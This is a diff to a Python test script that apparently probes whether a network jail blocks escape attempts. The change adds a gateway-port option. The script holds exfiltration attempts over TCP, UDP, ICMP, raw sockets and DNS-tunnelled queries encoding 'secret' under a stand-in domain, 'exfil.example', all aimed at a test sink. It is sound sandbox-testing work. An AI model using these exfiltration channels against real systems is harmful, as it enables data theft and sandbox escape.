@@ -3,7 +3,7 @@
 Run inside a jail (as the jailed command, or by a test as root with all capabilities via
 `ip netns exec`). It aims only at the sink (203.0.113.9, a fake 198.18.x.y address, both
 routed into the tests' own sink namespace) and at the jail's own gateway and resolver.
-Usage: escape.py SINK_IP [--attacker]
+Usage: escape.py SINK_IP [--attacker] [--gateway-port N]  (UDP to the gateway; 9999)
 """
 
 from __future__ import annotations
@@ -15,6 +15,7 @@ import sys
 
 SINK = sys.argv[1]
 ATTACKER = "--attacker" in sys.argv
+GATEWAY_PORT = int(sys.argv[sys.argv.index("--gateway-port") + 1]) if "--gateway-port" in sys.argv else 9999
 results: dict[str, str] = {}
 
 
@@ -110,7 +111,7 @@ attempt("tcp fake address 22", lambda: tcp("198.18.7.7", 22))
 attempt("udp 9999", lambda: udp(SINK, 9999, b"data"))
 attempt("dns to the sink", lambda: udp(SINK, 53, dns_query("c2VjcmV0.exfil.example")))
 attempt("dns to the jail resolver", lambda: udp(gateway(), 53, dns_query("c2VjcmV0.exfil.example")))
-attempt("udp to the gateway", lambda: udp(gateway(), 9999, b"data"))
+attempt("udp to the gateway", lambda: udp(gateway(), GATEWAY_PORT, b"data"))
 attempt("icmp", lambda: icmp(SINK))
 attempt("raw ip", lambda: raw_ip_udp(SINK))
 attempt("packet socket", lambda: packet_frame(SINK))
